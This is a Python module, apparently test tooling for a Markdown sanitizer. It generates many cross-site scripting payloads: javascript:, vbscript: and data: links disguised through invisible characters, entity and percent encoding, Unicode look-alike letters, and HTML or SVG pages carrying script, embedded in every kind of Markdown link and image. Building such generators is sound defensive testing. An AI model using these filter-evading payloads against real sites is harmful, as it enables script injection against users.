"""Destinations whose scheme runs code, disguised, in every construct that has a destination."""
import base64

# White space, controls and invisible characters: browsers remove some of them from an address.
CHARACTERS = [
    0x00, 0x01, 0x08, 0x09, 0x0A, 0x0B, 0x0C, 0x0D, 0x0E, 0x1B, 0x1F, 0x20, 0x7F, 0x80, 0x85, 0x9F, 0xA0, 0xAD, 0x034F,
    0x061C, 0x1680, 0x180E, 0x2000, 0x2003, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F, 0x2028, 0x2029, 0x202E, 0x202F,
    0x205F, 0x2060, 0x2066, 0x3000, 0xFE0F, 0xFEFF, 0xFFF9, 0xFFFD, 0xE0001, 0xE0020]
LOOK_ALIKES = [
    "ｊavascript:", "ｊａｖａｓｃｒｉｐｔ：", "javascript：", "javascriptː", "javascript∶", "javascript︓",
    "javascript﹕", "javascript։", "javaſcript:", "javascrıpt:", "javascrİpt:", "jаvascript:",
    "ϳavascript:", "java\u0301script:", "ʲavascript:", "𝗃𝖺𝗏𝖺𝗌𝖼𝗋𝗂𝗉𝗍:", "ⓙⓐⓥⓐⓢⓒⓡⓘⓟⓣ:", "jᵃvascript:"]
WRAPPERS = [
    "javascript:", "view-source:", "feed:", "jar:", "blob:", "filesystem:", "about:", "url:", "URL:",
    "http:", "//", "///", "/", "./", "?", "#", "x-javascript:", "livescript:", "mocha:", "ecmascript:",
    "jscript:", "intent:", "res:", "ms-its:", "wyciwyg:", "resource:", "chrome:", "about:blank#",
    "{url}", "%@", "${url}", "%(url)s", "%1$s", "{{url}}", "%%", "&#0;", "\\", "\\\\", "/\\", "@", ";"]
FOREIGN_DATA = [
    "text/html", "text/html;charset=utf-7", "TEXT/HTML", "text/xml", "application/xhtml+xml",
    "image/svg+xml", "IMAGE/SVG+XML", "image/svg", "image/png,text/html", "image/png;text/html",
    "image/pngx", "image/gif\t;text/html", "multipart/x-mixed-replace", "text/javascript", "",
    ";text/html", " text/html", "/html", "application/pdf", "image/jpeg", "image/webp+xml"]


def percent(text):
    return "".join(f"%{byte:02X}" for byte in text.encode())


def references(text, form):
    return "".join(form.format(ord(character)) for character in text)


def disguised_characters():
    """Yields characters before the scheme, within it and next to its colon, raw and as references."""
    for code in CHARACTERS:
        places = ["{0}javascript:{1}", "java{0}script:{1}", "javascript{0}:{1}", "javascript:{0}{1}"]
        for number, place in enumerate(places):
            # Alternately decimal and hexadecimal.
            reference = f"&#{code};" if number % 2 else f"&#x{code:x};"
            yield lambda run: f"[x](<{place.format(chr(code), run)}>)"
            yield lambda run: f"[x]({place.format(reference, run)})"


def disguised_letters():
    for scheme in ["javascript", "vbscript", "JAVASCRIPT", "jAvAsCrIpT", "Javascript", "javascripT"]:
        yield lambda run: f"[x]({scheme}:{run})"
    for form in ["&#{};", "&#{:07};", "&#x{:x};", "&#X{:X};", "&#x{:06x};", "&#{}", "&#x{:x}", "&amp;#{};",
                 "&amp;amp;#{};", "&#x26;#{};", "&#38;#{};", "\\&#{};", "&#0{:08};", "\\u{:04x}", "\\x{:02x}", "&{};"]:
        yield lambda run: f"[x]({references('j', form)}avascript:{run})"
        yield lambda run: f"[x]({references('javascript:', form)}{run})"
        yield lambda run: f"[x](javascript{references(':', form)}{run})"
    for colon in ["&colon;", "&colon", "&Colon;", "&ratio;", "%3A", "%3a", "%253A", "\\:", "\\\\:",
                  "&#58", "&#x3a", "&semi;", "&#0058;", "::", " :", "\t:"]:
        yield lambda run: f"[x](<javascript{colon}{run}>)"
    for named in ["&Tab;", "&NewLine;", "&nbsp;", "&ZeroWidthSpace;", "&shy;", "&zwj;", "&NoBreak;",
                  "&lrm;", "&InvisibleTimes;", "&NonBreakingSpace;", "&hairsp;", "&ThickSpace;"]:
        yield lambda run: f"[x]({named}javascript:{run})"
        yield lambda run: f"[x](java{named}script:{run})"
    for scheme in [percent("j") + "avascript:", percent("javascript") + ":", percent("javascript:"),
                   "%256Aavascript:", "java%0Ascript:", "%00javascript:", "%20javascript:",
                   "java%E2%80%8Bscript:", "%u006Aavascript:", "\\javascript:", "java\\script:",
                   "j\\avascript:", "javascript\\:", "java\\\nscript:", "java/**/script:", *LOOK_ALIKES]:
        yield lambda run: f"[x](<{scheme}{run}>)"


def wrapped():
    for wrapper in WRAPPERS:
        yield lambda run: f"[x](<{wrapper}javascript:{run}>)"
        yield lambda run: f"[x](javascript:{wrapper.replace('(', '').replace(')', '')}{run})"


def programs():
    """Yields the same scheme with different programs after it."""
    for program in ["//a.example/%0a{0}", "//%0d%0a{0}", "/**/{0}", "void({0})", "%0a{0}", "'';{0}", "({0})",
                    "&quot;&quot;;{0}", "`${{{0}}}`", "0?0:{0}", "//&#10;{0}", "//&#x2028;{0}", "//%E2%80%A8{0}",
                    "eval('{0}')", "{{{0}}}", "%7B{0}%7D", "<!--%0a{0}", "#%0a{0}", "'&lt;img src=x onerror={0}>'",
                    "top['r'+'an']({0.number})", "\\u0074op.ran({0.number})"]:
        yield lambda run: f"[x](<javascript:{program.format(run)}>)"
    yield lambda run: f"[x](javascript:{percent(str(run))})"
    yield lambda run: f"[x](javascript:{references(str(run), '&#{};')})"


def hostile_page(run):
    return f"<script>{run.message}</script>"


def hostile_picture(run):
    return f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{run.message}\"><script>{run}</script></svg>"


def data():
    """Yields documents in an address, which a link opens and an image shows."""
    for kind in FOREIGN_DATA:
        content = hostile_picture if "svg" in kind.lower() else hostile_page
        for form in ["[x](<{}>)", "![x](<{}>)"]:
            yield lambda run: form.format(f"data:{kind},{percent(content(run))}")
            yield lambda run: form.format(f"data:{kind};base64,{base64.b64encode(content(run).encode()).decode()}")
    for scheme in ["DATA:", "dAtA:", "da&Tab;ta:", "&#1;data:", "data&colon;", "&#100;ata:", "d\\ata:"]:
        yield lambda run: f"[x]({scheme}text/html,{percent(hostile_page(run))})"
        yield lambda run: f"![x]({scheme}image/svg+xml,{percent(hostile_picture(run))})"


CARRIERS = [
    "[x]({0})", "[x](<{0}> 'title')", "![x]({0})", "[![x]({0})](https://a.example)", "[![x](/a.png)]({0})", "<{0}>",
    "[*x* `y`\nz]( {0} \"title\" )", "> - [x]({0})", "# [x]({0})\n\n[y][x]\n\n[x]: {0}", "[x]\n\n[x]: {0}",
    "[x][y]\n\n[Y]:\n  <{0}>\n  'title'", "![x][]\n\n[x]: {0} (title)", "[x]\n\n[x]: /a\n[x]: {0}",
    "[x]\n\n> [x]: {0}\n\n[X]: /b", "[a [b]({0}) c](/d)", "[a <{0}> c](/d)", "[a ![b [c]({0})]({0}) d]({0})"]


def carried():
    """Yields every construct with a destination, with a few disguises each."""
    for carrier in CARRIERS:
        for destination in ["javascript:{}", "JavaScript:{}", "&#106;avascript:{}", "java&Tab;script:{}",
                            "java\tscript:{}", "vbscript:{}", "file:///{}"]:
            yield lambda run: carrier.format(destination.format(run))
        yield lambda run: carrier.format(f"data:text/html,{percent(hostile_page(run))}")


FAMILIES = {"characters in a scheme": disguised_characters, "letters of a scheme": disguised_letters,
            "schemes in addresses": wrapped, "programs in addresses": programs,
            "documents in addresses": data, "what carries an address": carried}
